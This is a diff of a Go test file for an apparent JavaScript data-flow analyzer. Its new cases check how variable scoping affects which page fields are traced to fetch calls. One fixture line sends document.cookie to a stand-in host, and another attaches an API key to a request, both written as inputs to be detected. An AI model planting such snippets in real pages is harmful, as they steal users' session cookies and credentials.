@@ -28,6 +28,10 @@ func TestFollow(t *testing.T) {
 		"arrow":     {"const send = async (a, b) => { await fetch(`https://x.example/${a}`, {body: b}) }; send(id, document.cookie)", "text:https://x.example/ cookie:document.cookie"},
 		"form":      {`var d = new FormData(f); d.append('msg', $('#m').val()); fetch(u, {method: 'POST', body: d})`, "form:FormData field:#m"},
 		"global":    {`fetch(u, {headers: {Authorization: 'Bearer ' + chatData.api_key}})`, "global:chatData.api_key"},
+		"scopes":    {`function a() { const m = document.cookie; save(m) } function b() { const m = $('#q').val(); fetch('/x', {body: m}) }`, "field:#q"},
+		"shadow":    {`let m = $('#phone').val(); function b(m) { fetch('/x', {body: m}) } b($('#q').val())`, "field:#q"},
+		"outer":     {`let m = $('#phone').val(); function b() { if (x) { fetch('/x', {body: m}) } }`, "field:#phone"},
+		"assigned":  {`let m; function set() { m = $('#city').val() } function b() { fetch('/x', {body: m}) }`, "field:#city"},
 		"circle":    {`a = b; b = a; fetch(a)`, ""},
 	} {
 		if got := sources(c[0]); got != c[1] {
